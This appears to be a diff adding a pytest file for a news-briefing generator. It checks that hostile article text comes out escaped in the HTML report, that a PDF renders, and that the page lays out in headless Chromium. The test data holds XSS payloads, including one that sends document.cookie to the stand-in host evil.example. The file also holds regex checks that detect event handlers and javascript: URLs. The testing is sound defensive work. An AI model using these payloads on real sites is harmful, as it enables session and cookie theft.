@@ -1,0 +1,97 @@
+"""Hostile article text renders inert; the briefing loads in a real headless Chromium."""
+
+from __future__ import annotations
+
+import re
+import shutil
+import subprocess
+from pathlib import Path
+
+import pytest
+
+from newsbrief.params import load_params
+from newsbrief.report import run_report
+
+pytestmark = pytest.mark.slow
+
+HOSTILE = """<script>alert('title')</script> Minister <img src=x onerror=alert(1)> quits
+
+Minister Anna Berg said on Monday: "<script>document.location='http://evil.example/'+document.cookie</script> I quit."
+
+"Read <a href="javascript:alert(2)">this</a> now," Berg told reporters in Oslo.
+
+The opposition leader Per Holm said the <iframe src="javascript:alert(3)"></iframe> resignation was overdue.
+"""
+
+
+@pytest.fixture(scope="module")
+def hostile_run(root: Path, tmp_path_factory: pytest.TempPathFactory):
+    work = tmp_path_factory.mktemp("hostile")
+    article = work / "hostile.txt"
+    article.write_text(HOSTILE, encoding="utf-8")
+    params = load_params(root / "params" / "seed-article.yaml", overrides=[f"input={article}", "name=hostile"])
+    return run_report(params, output_dir=work / "reports")
+
+
+def test_no_executable_markup_in_html(hostile_run) -> None:
+    markup = hostile_run.html.read_text(encoding="utf-8")
+    lowered = markup.lower()
+    assert "<script" not in lowered
+    assert "<iframe" not in lowered
+    assert not re.search(r"<[^>]+\son[a-z]+\s*=", lowered)
+    assert not re.search(r"""(href|src)\s*=\s*["']?\s*javascript:""", lowered)
+    # The hostile strings are shown as text, escaped.
+    assert "&lt;script&gt;" in markup
+
+
+def test_pdf_renders(hostile_run) -> None:
+    assert hostile_run.pdf.read_bytes().startswith(b"%PDF")
+
+
+def _chromium() -> str:
+    for name in ("chromium", "chromium-browser", "google-chrome"):
+        path = shutil.which(name)
+        if path:
+            return path
+    pytest.skip("no Chromium on this machine (.ci/run installs Debian's chromium package)")
+
+
+@pytest.fixture(scope="module")
+def seed_html(root: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
+    out = tmp_path_factory.mktemp("browser")
+    params = load_params(root / "params" / "seed-article.yaml")
+    return run_report(params, output_dir=out).html
+
+
+PROBE = """
+<script>
+window.addEventListener('load', () => {
+  const imgs = Array.from(document.images);
+  const broken = imgs.filter(i => !(i.complete && i.naturalWidth > 0)).length;
+  const doc = document.documentElement;
+  const overflow = Math.max(doc.scrollWidth, document.body.scrollWidth) - window.innerWidth;
+  document.title = `PROBE images=${imgs.length} broken=${broken} overflow=${overflow}`;
+});
+</script>
+"""
+
+
+def test_seen_in_headless_chromium(seed_html: Path, tmp_path: Path) -> None:
+    chromium = _chromium()
+    # The briefing has no scripts; a copy with a probe script reports what the browser measured.
+    probe = tmp_path / "probe.html"
+    probe.write_text(seed_html.read_text(encoding="utf-8").replace("</body>", PROBE + "</body>"), encoding="utf-8")
+    flags = [chromium, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking",
+             "--disable-component-update", "--disable-sync", "--disable-quic", f"--user-data-dir={tmp_path / 'profile'}",
+             "--window-size=700,1200", "--hide-scrollbars", "--virtual-time-budget=5000"]
+    shot = tmp_path / "briefing.png"
+    subprocess.run([*flags, f"--screenshot={shot}", seed_html.as_uri()], check=True, capture_output=True, timeout=120)
+    assert shot.is_file() and shot.stat().st_size > 10_000
+    dom = subprocess.run([*flags, "--dump-dom", probe.as_uri()], check=True, capture_output=True, text=True,
+                         timeout=120).stdout
+    match = re.search(r"PROBE images=(\d+) broken=(\d+) overflow=(-?\d+)", dom)
+    assert match, "the probe did not run"
+    images, broken, overflow = map(int, match.groups())
+    assert images >= 3
+    assert broken == 0
+    assert overflow <= 0, f"horizontal overflow of {overflow}px at 700px"
